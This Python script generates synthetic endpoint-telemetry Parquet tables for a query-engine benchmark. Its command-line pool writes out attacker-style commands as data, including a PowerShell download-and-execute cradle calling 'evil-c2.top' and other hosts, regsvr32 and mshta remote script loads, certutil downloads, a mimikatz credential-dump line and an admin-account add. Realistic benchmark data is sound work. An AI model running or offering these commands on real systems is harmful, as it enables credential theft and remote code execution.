#!/usr/bin/env python3
"""Generate hunting-shaped Parquet tables for bench/compare-duckdb.

Writes DeviceProcessEvents, DeviceNetworkEvents and DeviceFileEvents (50/30/20 of --rows) as
zstd Parquet into --out. Generation is vectorised: every string column is drawn from a pool
built once (a few thousand entries) and gathered with `take`, so 10M rows take seconds.

Types follow Quarry's Arrow mapping: datetime -> timestamp[ns], long -> int64, string -> utf8,
dynamic -> large_string holding JSON text. Timestamps are whole microseconds so that both
engines print them identically.
"""

import argparse
import json
import os
import random

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

START_US = 1_767_225_600_000_000  # 2026-01-01T00:00:00Z in microseconds
SPAN_US = 7 * 24 * 3600 * 1_000_000


def pool_take(rng, pool, n, skew=None, type_=pa.string()):
    """`n` values drawn from `pool`; `skew` > 1 makes low indices more frequent (Zipf-like)."""
    arr = pa.array(pool, type=type_)
    if skew:
        idx = (rng.pareto(skew, n) * len(pool) / 10).astype(np.int64) % len(pool)
    else:
        idx = rng.integers(0, len(pool), n)
    return arr.take(pa.array(idx))


def timestamps(rng, n):
    us = START_US + rng.integers(0, SPAN_US, n)
    return pa.array((us * 1000).astype("datetime64[ns]"), type=pa.timestamp("ns"))


def pools(seed):
    r = random.Random(seed)
    hexd = "0123456789abcdef"
    devices = [f"ws-{i:05d}.corp.contoso.com" for i in range(1800)] + [
        f"srv-{i:03d}.corp.contoso.com" for i in range(200)
    ]
    accounts = [f"user{i:04d}" for i in range(480)] + [
        "system",
        "local service",
        "network service",
        "administrator",
    ] + [f"svc_app{i:02d}" for i in range(16)]
    exes = [
        ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0"),
        ("PowerShell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0"),
        ("pwsh.exe", r"C:\Program Files\PowerShell\7"),
        ("cmd.exe", r"C:\Windows\System32"),
        ("rundll32.exe", r"C:\Windows\System32"),
        ("RunDll32.EXE", r"C:\Windows\SysWOW64"),
        ("regsvr32.exe", r"C:\Windows\System32"),
        ("mshta.exe", r"C:\Windows\System32"),
        ("svchost.exe", r"C:\Windows\System32"),
        ("chrome.exe", r"C:\Program Files\Google\Chrome\Application"),
        ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application"),
        ("outlook.exe", r"C:\Program Files\Microsoft Office\root\Office16"),
        ("winword.exe", r"C:\Program Files\Microsoft Office\root\Office16"),
        ("excel.exe", r"C:\Program Files\Microsoft Office\root\Office16"),
        ("explorer.exe", r"C:\Windows"),
        ("wmic.exe", r"C:\Windows\System32\wbem"),
        ("certutil.exe", r"C:\Windows\System32"),
        ("schtasks.exe", r"C:\Windows\System32"),
        ("net.exe", r"C:\Windows\System32"),
        ("git.exe", r"C:\Program Files\Git\cmd"),
    ]
    hosts = ["contoso.com", "update.microsoft.com", "github.com", "pastebin.com", "ngrok.io",
             "cdn.example.net", "login.live.com", "raw.githubusercontent.com", "evil-c2.top"]
    templates = [
        lambda: "powershell.exe -NoProfile -EncodedCommand "
        + "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(40)),
        lambda: f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://{r.choice(hosts)}/p{r.randint(1, 99)}.ps1')\"",
        lambda: f"powershell.exe Invoke-Command -ComputerName srv-{r.randint(0, 199):03d} -ScriptBlock {{ Get-Process }}",
        lambda: f"cmd.exe /c whoami /all > C:\\Users\\Public\\out{r.randint(1, 50)}.txt",
        lambda: f"cmd.exe /c dir C:\\Users\\user{r.randint(0, 479):04d}\\Documents",
        lambda: f"rundll32.exe C:\\Users\\Public\\lib{r.randint(1, 30)}.dll,DllRegisterServer",
        lambda: f"regsvr32.exe /s /u /i:http://{r.choice(hosts)}/file.sct scrobj.dll",
        lambda: f"mshta.exe http://{r.choice(hosts)}/a{r.randint(1, 20)}.hta",
        lambda: "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
        lambda: f"svchost.exe -k netsvcs -p -s Schedule{r.randint(1, 9)}",
        lambda: f"\"chrome.exe\" --type=renderer --field-trial-handle={r.randint(1000, 9999)} https://{r.choice(hosts)}/",
        lambda: f"certutil.exe -urlcache -split -f https://{r.choice(hosts)}/x{r.randint(1, 40)}.bin C:\\Temp\\x.bin",
        lambda: f"schtasks.exe /create /tn Updater{r.randint(1, 60)} /tr C:\\Temp\\u.exe /sc minute",
        lambda: f"net.exe user admin{r.randint(1, 20)} P@ssw0rd /add",
        lambda: f"wmic.exe /node:srv-{r.randint(0, 199):03d} process call create notepad.exe",
        lambda: f"git.exe fetch origin feature/{r.randint(1, 500)}",
        lambda: f"explorer.exe /select,C:\\Users\\user{r.randint(0, 479):04d}\\Downloads\\report{r.randint(1, 99)}.pdf",
        lambda: f"winword.exe /n C:\\Users\\user{r.randint(0, 479):04d}\\Documents\\Invoice{r.randint(1, 999)}.docm",
    ]
    cmdlines = [t() for t in templates for _ in range(120)]
    hashes = ["".join(r.choice(hexd) for _ in range(64)) for _ in range(20000)]
    ips = [f"{r.choice([10, 52, 104, 172, 185, 192, 203])}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
           for _ in range(50000)]
    urls = [""] * 20 + [f"{p}{h}" for h in hosts for p in ["", "www.", "api.", "raw.", "cdn."]] + [
        f"host{i}.example.org" for i in range(400)
    ]
    tags = ["persistence", "lateral", "discovery", "exfil", "signed", "unsigned", "lolbin", "network"]
    dyn = []
    for i in range(3000):
        k = r.randint(0, 3)
        obj = {"Tags": r.sample(tags, k), "Signer": r.choice(["Microsoft", "Google", "", "Unknown"]),
               "Size": r.randint(1, 10_000_000)}
        if i % 7 == 0:
            obj["Reason"] = r.choice(["Quarantine", "Allowed", "Blocked"])
        dyn.append(json.dumps(obj, separators=(",", ":")))
    files = [f"{stem}{i}.{ext}" for stem in ["report", "invoice", "setup", "payload", "notes", "data"]
             for ext in ["exe", "dll", "docx", "ps1", "zip"] for i in range(40)]
    folders = [r"C:\Users\Public", r"C:\Temp", r"C:\Windows\Temp", r"C:\ProgramData"] + [
        f"C:\\Users\\user{i:04d}\\Downloads" for i in range(480)
    ]
    return dict(devices=devices, accounts=accounts, exes=exes, cmdlines=cmdlines, hashes=hashes,
                ips=ips, urls=urls, dyn=dyn, files=files, folders=folders)


def common(rng, P, n):
    exe_idx = rng.integers(0, len(P["exes"]), n)
    init_names = pa.array([e[0] for e in P["exes"]]).take(pa.array(exe_idx))
    return {
        "Timestamp": timestamps(rng, n),
        "DeviceName": pool_take(rng, P["devices"], n, skew=1.2),
        "InitiatingProcessFileName": init_names,
        "InitiatingProcessCommandLine": pool_take(rng, P["cmdlines"], n),
        "InitiatingProcessId": pa.array(rng.integers(1, 65536, n), type=pa.int64()),
        "InitiatingProcessAccountName": pool_take(rng, P["accounts"], n, skew=1.5),
        "AdditionalFields": pool_take(rng, P["dyn"], n, type_=pa.large_string()),
    }


def process_events(rng, P, n):
    c = common(rng, P, n)
    exe_idx = rng.integers(0, len(P["exes"]), n)
    return pa.table({
        "Timestamp": c["Timestamp"],
        "DeviceName": c["DeviceName"],
        "ActionType": pa.array(["ProcessCreated"]).take(pa.array(np.zeros(n, dtype=np.int64))),
        "AccountName": pool_take(rng, P["accounts"], n, skew=1.5),
        "FileName": pa.array([e[0] for e in P["exes"]]).take(pa.array(exe_idx)),
        "FolderPath": pa.array([e[1] for e in P["exes"]]).take(pa.array(exe_idx)),
        "ProcessId": pa.array(rng.integers(1, 65536, n), type=pa.int64()),
        "ProcessCommandLine": pool_take(rng, P["cmdlines"], n),
        "SHA256": pool_take(rng, P["hashes"], n, skew=1.1),
        "InitiatingProcessFileName": c["InitiatingProcessFileName"],
        "InitiatingProcessCommandLine": c["InitiatingProcessCommandLine"],
        "InitiatingProcessId": c["InitiatingProcessId"],
        "AdditionalFields": c["AdditionalFields"],
    })


def network_events(rng, P, n):
    c = common(rng, P, n)
    return pa.table({
        "Timestamp": c["Timestamp"],
        "DeviceName": c["DeviceName"],
        "ActionType": pool_take(rng, ["ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted",
                                      "ListeningConnectionCreated"], n),
        "RemoteIP": pool_take(rng, P["ips"], n, skew=1.3),
        "RemotePort": pa.array(np.array([443, 80, 8080, 445, 3389, 53, 22, 5985, 4444, 8443])[
            (rng.pareto(1.0, n) * 2).astype(np.int64) % 10], type=pa.int64()),
        "RemoteUrl": pool_take(rng, P["urls"], n),
        "LocalIP": pool_take(rng, P["ips"][:2000], n),
        "LocalPort": pa.array(rng.integers(1024, 65536, n), type=pa.int64()),
        "Protocol": pool_take(rng, ["Tcp", "Udp"], n),
        "InitiatingProcessFileName": c["InitiatingProcessFileName"],
        "InitiatingProcessCommandLine": c["InitiatingProcessCommandLine"],
        "InitiatingProcessId": c["InitiatingProcessId"],
        "InitiatingProcessAccountName": c["InitiatingProcessAccountName"],
        "AdditionalFields": c["AdditionalFields"],
    })


def file_events(rng, P, n):
    c = common(rng, P, n)
    return pa.table({
        "Timestamp": c["Timestamp"],
        "DeviceName": c["DeviceName"],
        "ActionType": pool_take(rng, ["FileCreated", "FileModified", "FileDeleted", "FileRenamed"], n),
        "FileName": pool_take(rng, P["files"], n),
        "FolderPath": pool_take(rng, P["folders"], n),
        "SHA256": pool_take(rng, P["hashes"], n),
        "FileSize": pa.array(rng.integers(0, 1_000_000_000_000, n), type=pa.int64()),
        "InitiatingProcessFileName": c["InitiatingProcessFileName"],
        "InitiatingProcessCommandLine": c["InitiatingProcessCommandLine"],
        "InitiatingProcessAccountName": c["InitiatingProcessAccountName"],
        "AdditionalFields": c["AdditionalFields"],
    })


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--rows", type=int, default=int(os.environ.get("ROWS", 10_000_000)))
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=42)
    args = ap.parse_args()
    os.makedirs(args.out, exist_ok=True)
    P = pools(args.seed)
    rng = np.random.default_rng(args.seed)
    split = [("DeviceProcessEvents", process_events, 0.5), ("DeviceNetworkEvents", network_events, 0.3),
             ("DeviceFileEvents", file_events, 0.2)]
    for name, make, share in split:
        n = int(args.rows * share)
        table = make(rng, P, n)
        tmp = os.path.join(args.out, f".{name}.parquet.tmp")
        pq.write_table(table, tmp, compression="zstd", row_group_size=1_000_000)
        os.replace(tmp, os.path.join(args.out, f"{name}.parquet"))
        print(f"{name}: {n} rows", flush=True)


if __name__ == "__main__":
    main()
